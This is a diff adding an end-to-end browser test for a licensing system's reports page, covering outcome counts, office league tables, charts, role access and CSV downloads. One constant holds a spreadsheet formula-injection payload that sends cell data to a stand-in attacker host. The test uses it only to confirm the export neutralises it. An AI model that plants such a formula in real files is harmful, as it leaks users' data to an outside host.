@@ -1,0 +1,267 @@
+// The reports screen in a real Chromium, against the real API, Temporal and
+// PostgreSQL, signed in through the login page. Cases run through the
+// workflow today to every outcome (issued, excluded for each reason, rejected,
+// cancelled by an administrator, still open) in two offices with Arabic names,
+// beside cases of past months written in as the workflow leaves them; the supervisor's page shows the summary with every outcome (each line adding
+// up to what was received), the outcomes over time and the office league
+// table, with their charts, and downloads the same CSV files the API serves:
+// a byte-order mark first, the Arabic as Arabic, an office name that would run
+// as a formula neutralised. An auditor may read them; a reviewer may not.
+import { readFileSync } from 'node:fs';
+import { sql } from 'drizzle-orm';
+import type { Browser, Locator, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { freePort } from '../scripts/ports';
+import { startTestEnv, type TestEnv, type Who } from './support/env';
+import { call, commercialApplication, healthApplication, submit, waitForApp, waitForStage } from './support/fixtures';
+import { launchBrowser, screenshotsInBothLanguages, seriousViolations, signedInPage } from './support/browser';
+
+let env: TestEnv;
+let browser: Browser;
+let base: string;
+const SHOTS = '.data/test/screenshots';
+/** Short, so the case filed without its civil-defense certificate is excluded within the test. */
+const CORRECTION_DEADLINE_MS = 3_000;
+const OFFICE_A_NAME = 'مكتب الأحساء للاستشارات الهندسية';
+const OFFICE_B_NAME = 'مكتب هجر للاستشارات';
+/** An office name a spreadsheet would run: `=HYPERLINK(...)` sends the sheet's cells away when clicked. */
+const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"مكتب هجر")';
+const BOM = [0xef, 0xbb, 0xbf];
+const OUTCOMES = ['issued', 'excludedIncomplete', 'excludedConditions', 'rejected', 'cancelled', 'open'] as const;
+
+const DAY_MS = 86_400_000;
+
+/**
+ * Cases of past months, written into the tables as the workflow leaves them:
+ * days to a license, and months apart, are more than a test's seconds can make.
+ */
+const PAST: { office: 'a' | 'b'; daysAgo: number; status: 'issued' | 'excluded'; days: number; corrected?: boolean; review?: 'on_time' | 'late' }[] = [
+  { office: 'a', daysAgo: 60, status: 'issued', days: 2, review: 'on_time' },
+  { office: 'a', daysAgo: 61, status: 'issued', days: 6, review: 'late' },
+  { office: 'a', daysAgo: 90, status: 'excluded', days: 14, corrected: true },
+  { office: 'b', daysAgo: 30, status: 'issued', days: 1, review: 'on_time' },
+  { office: 'b', daysAgo: 95, status: 'issued', days: 3, review: 'on_time' },
+];
+
+async function seedPast() {
+  for (const [i, c] of PAST.entries()) {
+    const submitted = new Date(Date.now() - c.daysAgo * DAY_MS);
+    const closed = new Date(submitted.getTime() + c.days * DAY_MS);
+    const id = `TRK-${submitted.toISOString().slice(0, 10).replaceAll('-', '')}-PAST0${i}`;
+    const office = env.offices[c.office];
+    await env.db.db.execute(sql`
+      insert into applications (id, status, stage, exclusion_reason, license_kind, office_id, applicant_national_id, applicant_name,
+        applicant_mobile, cr_number, trade_name, isic_code, district, data, submitted_at, updated_at, closed_at)
+      values (${id}, ${c.status}, 'closed', ${c.status === 'excluded' ? 'incomplete' : null}, 'commercial', ${office}, '1000000008', 'Seeded',
+        '+966500000000', '2250000000', 'Seeded shop', '477101', 'Al-Hofuf', '{}'::jsonb, ${submitted}, ${closed}, ${closed})`);
+    if (c.corrected) {
+      await env.db.db.execute(sql`insert into application_events (application_id, seq, event, stage, status, at)
+        values (${id}, 1, 'correction_requested', 'awaiting_correction', 'in_progress', ${submitted})`);
+    }
+    if (c.review) {
+      const due = new Date(submitted.getTime() + DAY_MS);
+      const decided = new Date(due.getTime() + (c.review === 'on_time' ? -1 : 1) * 3_600_000);
+      await env.db.db.execute(sql`insert into tasks (id, application_id, kind, required_role, office_id, status, round, created_at, due_at,
+          decided_at, decision, license_kind, trade_name, cr_number, seq)
+        values (${`${id}:technical:1`}, ${id}, 'technical_review', 'technical_inspector', ${office}, 'completed', 1,
+          ${submitted}, ${due}, ${decided}, 'approve', 'commercial', 'Seeded shop', '2250000000', 1)`);
+    }
+  }
+}
+
+const renameOffice = (id: string, name: string) => env.db.db.execute(sql`update offices set name = ${name} where id = ${id}`);
+
+beforeAll(async () => {
+  const port = await freePort();
+  base = `http://127.0.0.1:${port}`;
+  [env, browser] = await Promise.all([
+    startTestEnv({ signIn: { apiPublicUrl: base, people: true }, timing: { correctionDeadlineMs: CORRECTION_DEADLINE_MS } }),
+    launchBrowser(),
+  ]);
+  await env.api.listen({ host: '127.0.0.1', port });
+  await renameOffice(env.offices.a, OFFICE_A_NAME);
+  await renameOffice(env.offices.b, OFFICE_B_NAME);
+  await seedPast();
+
+  const file = async (who: Who, body: object) => {
+    const res = await submit(env.api, body, undefined, who);
+    expect(res.statusCode, res.body).toBe(201);
+    return res.json().id as string;
+  };
+  const decide = async (id: string, kind: 'health' | 'technical', who: Who, decision: object) => {
+    const task = `${id}:${kind}:1`;
+    expect((await call(env.api, who, 'POST', `/tasks/${task}/claim`)).statusCode).toBe(200);
+    const res = await call(env.api, who, 'POST', `/tasks/${task}/decision`, decision);
+    expect(res.statusCode, res.body).toBe(200);
+  };
+  const shop = commercialApplication();
+  const [issuedA, incompleteA, openA, cancelledA, rejectedB, tooSmallB, issuedB] = [
+    await file('clerk', commercialApplication()),
+    await file('clerk', { ...shop, documents: shop.documents.filter((d) => d.type !== 'civil_defense') }),
+    await file('clerk', commercialApplication()),
+    await file('clerk', commercialApplication()),
+    await file('clerkB', healthApplication()),
+    await file('clerkB', { ...shop, establishment: { ...shop.establishment, crNumber: commercialApplication().establishment.crNumber, areaSqm: 1 } }),
+    await file('clerkB', commercialApplication()),
+  ];
+  for (const id of [issuedA, openA, cancelledA, rejectedB, issuedB]) await waitForStage(env.api, id, 'review');
+  const cancel = await call(env.api, 'admin', 'POST', `/operations/cases/${cancelledA}/repair`, { action: 'cancel', reason: 'filed twice by mistake' });
+  expect(cancel.statusCode, cancel.body).toBe(200);
+  await decide(issuedA, 'technical', 'inspector', { decision: 'approve' });
+  await decide(rejectedB, 'health', 'healthB', { decision: 'reject', reasons: ['HYGIENE'] });
+  await decide(issuedB, 'technical', 'inspectorB', { decision: 'approve' });
+  const ends = (id: string, status: string) => waitForApp(env.api, id, status, (a) => a.status === status);
+  await Promise.all([
+    ends(issuedA, 'issued'),
+    ends(incompleteA, 'excluded'),
+    ends(cancelledA, 'cancelled'),
+    ends(rejectedB, 'rejected'),
+    ends(tooSmallB, 'excluded'),
+    ends(issuedB, 'issued'),
+  ]);
+}, 180_000);
+afterAll(async () => {
+  await browser?.close();
+  await env?.close();
+});
+
+const signedInAs = (who: Who): Promise<Page> => signedInPage(browser, base, who);
+
+/** A table row's figures by their cells' names (data-outcome or data-figure). */
+async function figures(row: Locator, attribute: 'data-outcome' | 'data-figure'): Promise<Record<string, string>> {
+  const named = await row.locator(`td[${attribute}]`).evaluateAll((tds, a) => tds.map((td) => [td.getAttribute(a)!, td.textContent!.trim()]), attribute);
+  return Object.fromEntries(named);
+}
+const counts = (r: Record<string, string>) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, Number(v)]));
+
+async function downloaded(page: Page, link: string): Promise<Buffer> {
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click(link)]);
+  return readFileSync((await download.path())!);
+}
+
+describe('reports in the console', () => {
+  it("shows a supervisor the period's summary with every outcome, the outcomes over time and the office league table, with charts", async () => {
+    const page = await signedInAs('supervisor');
+    await page.click('a[href="/console/reports"]');
+    await page.waitForURL(`${base}/console/reports`);
+
+    expect(counts(await figures(page.locator('#summary-table tr[data-row=total]'), 'data-outcome'))).toEqual({
+      received: 12,
+      issued: 6,
+      excludedIncomplete: 2,
+      excludedConditions: 1,
+      rejected: 1,
+      cancelled: 1,
+      open: 1,
+    });
+    expect(counts(await figures(page.locator('#summary-table tr[data-row=health]'), 'data-outcome'))).toMatchObject({ received: 1, rejected: 1 });
+    // Every case is in exactly one outcome: on each line, of the summary and of the table over time, they add up to received.
+    const lines = await page.locator('#summary-table tbody tr, #over-time-table tbody tr').all();
+    expect(lines.length).toBeGreaterThanOrEqual(3);
+    for (const line of lines) {
+      const row = counts(await figures(line, 'data-outcome'));
+      expect(OUTCOMES.reduce((sum, k) => sum + row[k]!, 0), JSON.stringify(row)).toBe(row.received);
+    }
+    // The period's parts hold its cases once each: the last twelve months.
+    const parts = await page.locator('#over-time-table tbody tr td[data-outcome=received]').allTextContents();
+    expect(parts).toHaveLength(12);
+    expect(parts.map(Number).reduce((a, b) => a + b, 0)).toBe(12);
+
+    // The league table, by volume: office A's seven cases first, two of them asked for a correction, one review of three late.
+    const offices = await page.locator('#league-table tbody tr').evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-office')));
+    expect(offices).toEqual([env.offices.a, env.offices.b]);
+    expect(await page.textContent(`#league-table tr[data-office=${env.offices.a}] th`)).toContain(OFFICE_A_NAME);
+    expect(await figures(page.locator(`#league-table tr[data-office=${env.offices.a}]`), 'data-figure')).toEqual({
+      received: '7',
+      issued: '3',
+      median: '2',
+      p90: '5.2',
+      firstTime: '71.4٪',
+      reviews: '3',
+      sla: '66.7٪',
+    });
+    // B: the rejected case's technical review was cancelled with it, not decided.
+    expect(await figures(page.locator(`#league-table tr[data-office=${env.offices.b}]`), 'data-figure')).toEqual({ received: '5', issued: '3', median: '1', p90: '2.6', firstTime: '100٪', reviews: '4', sla: '100٪' });
+
+    // Each chart is an image with its title and description; the one over time draws a mark for each figure in its table that is not 0.
+    const charts = page.locator('svg[role=img][data-chart]');
+    expect(await charts.count()).toBe(5);
+    for (const chart of await charts.all()) {
+      const [title, desc] = (await chart.getAttribute('aria-labelledby'))!.split(' ');
+      expect((await page.textContent(`#${title}`))!.trim()).not.toBe('');
+      expect((await page.textContent(`#${desc}`))!.trim()).not.toBe('');
+    }
+    const nonZero = (await page.locator('#over-time-table tbody td[data-outcome]:not([data-outcome=received])').allTextContents()).filter((n) => n !== '0');
+    expect(await page.locator('svg[data-chart=chart-over-time] rect').count()).toBe(nonZero.length);
+    expect(await page.textContent('#chart-volume-desc')).toContain(`${OFFICE_A_NAME}: 7`);
+    expect(await seriousViolations(page)).toEqual([]);
+    await screenshotsInBothLanguages(page, SHOTS, 'reports');
+    await page.context().close();
+  });
+
+  it("downloads from the page the API's own CSV: a byte-order mark for Excel, the Arabic as Arabic, a formula neutralised", async () => {
+    await renameOffice(env.offices.b, FORMULA_NAME);
+    try {
+      const page = await signedInAs('supervisor');
+      await page.goto(`${base}/console/reports`);
+      const period = new URL(`${base}${await page.getAttribute('#csv-summary', 'href')}`).search.slice(1);
+
+      const summary = await downloaded(page, '#csv-summary');
+      expect([...summary.subarray(0, 3)]).toEqual(BOM);
+      const text = summary.toString('utf8');
+      expect(text).toBe((await call(env.api, 'auditor', 'GET', `/reports/summary?${period}&format=csv`)).body);
+      const rows = text.slice(1).trimEnd().split('\r\n');
+      expect(rows[0]).toBe('scope,key,name,received,issued,excludedIncomplete,excludedConditions,rejected,cancelled,open');
+      expect(rows[1]).toBe('total,,,12,6,2,1,1,1,1');
+      expect(rows).toContain(`office,${env.offices.a},${OFFICE_A_NAME},7,3,2,0,0,1,1`);
+      // Shown as text: an apostrophe first, then the name as it is (quoted, for its quotes and comma).
+      expect(rows.find((r) => r.startsWith(`office,${env.offices.b},`))).toBe(`office,${env.offices.b},"'=HYPERLINK(""http://evil.example/?""&A1,""مكتب هجر"")",5,3,0,1,1,0,0`);
+
+      const offices = await downloaded(page, '#csv-offices');
+      expect([...offices.subarray(0, 3)]).toEqual(BOM);
+      expect(offices.toString('utf8')).toBe((await call(env.api, 'auditor', 'GET', `/reports/offices?${period}&format=csv`)).body);
+      const lines = offices.toString('utf8').split('\r\n');
+      expect(lines.find((l) => l.startsWith(`${env.offices.a},`))).toMatch(new RegExp(`^${env.offices.a},${OFFICE_A_NAME},7,3,`));
+      expect(lines.find((l) => l.startsWith(`${env.offices.b},`))).toMatch(/^OFF-\w+,"'=HYPERLINK\(/);
+      // On the page the same name is text, not markup or a link.
+      expect(await page.textContent(`#league-table tr[data-office=${env.offices.b}] th bdi`)).toBe(FORMULA_NAME);
+      await page.context().close();
+    } finally {
+      await renameOffice(env.offices.b, OFFICE_B_NAME);
+    }
+  });
+
+  it('takes another period from its form, and gives a period that is not one back to the form', async () => {
+    const page = await signedInAs('auditor');
+    await page.goto(`${base}/console/reports`);
+    await page.fill('#from', '2020-01-01');
+    await page.fill('#to', '2020-01-31');
+    await page.click('form.filters button[type=submit]');
+    await page.waitForURL(/from=2020-01-01&to=2020-01-31/);
+    expect(counts(await figures(page.locator('#summary-table tr[data-row=total]'), 'data-outcome'))).toMatchObject({ received: 0, cancelled: 0 });
+    expect(await page.locator('#reports-empty').count()).toBe(1);
+    expect(await page.getAttribute('#csv-offices', 'href')).toBe('/console/reports/offices.csv?from=2020-01-01&to=2020-01-31');
+
+    const backwards = await page.goto(`${base}/console/reports?from=2026-05-01&to=2026-04-01`);
+    expect(backwards?.status()).toBe(400);
+    expect(await page.locator('.error-summary').count()).toBe(1);
+    expect(await page.inputValue('#from')).toBe('2026-05-01');
+    expect((await page.request.get(`${base}/console/reports/summary.csv?from=2026-02-30&to=2026-03-01`)).status()).toBe(400);
+    expect(await seriousViolations(page)).toEqual([]);
+    await page.context().close();
+  });
+
+  it('lets an auditor read the reports and refuses a reviewer, as the API does', async () => {
+    const auditor = await signedInAs('auditor');
+    expect(await auditor.locator('a[href="/console/reports"]').count()).toBe(1);
+    expect((await auditor.goto(`${base}/console/reports`))?.status()).toBe(200);
+    await auditor.context().close();
+
+    const reviewer = await signedInAs('health');
+    expect(await reviewer.locator('a[href="/console/reports"]').count()).toBe(0);
+    expect((await reviewer.goto(`${base}/console/reports`))?.status()).toBe(403);
+    expect((await reviewer.request.get(`${base}/console/reports/summary.csv`)).status()).toBe(403);
+    expect((await call(env.api, 'health', 'GET', '/reports/summary?from=2026-01-01&to=2026-01-31')).statusCode).toBe(403);
+    await reviewer.context().close();
+  });
+});
